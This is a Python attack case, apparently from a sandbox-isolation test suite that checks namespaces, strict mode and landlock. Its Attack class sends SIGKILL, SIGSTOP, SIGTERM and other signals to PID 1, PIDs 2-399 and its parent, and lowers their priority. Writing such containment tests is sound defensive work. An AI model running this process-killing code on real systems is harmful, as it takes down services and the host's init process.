"""Is branched, and its copy kills, stops and renices every process of the family: the copy's end, and that of all.

stopped_by: the first process of a namespace takes no signal of its members; nothing of a family outlives it
plays: branch attack close look
outcome at namespaces: ok or crashed or timeout
outcome at strict: ok or crashed or timeout
outcome at landlock: ok or crashed or timeout
"""

import contextlib
import os
import signal


class Attack:
    def attack(self):
        for pid in {1, *range(2, 400), os.getppid()} - {os.getpid()}:
            for number in (41, 42, 43, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PROCESS, pid, 19)
        return 0.0

    def look(self):
        return 0.0
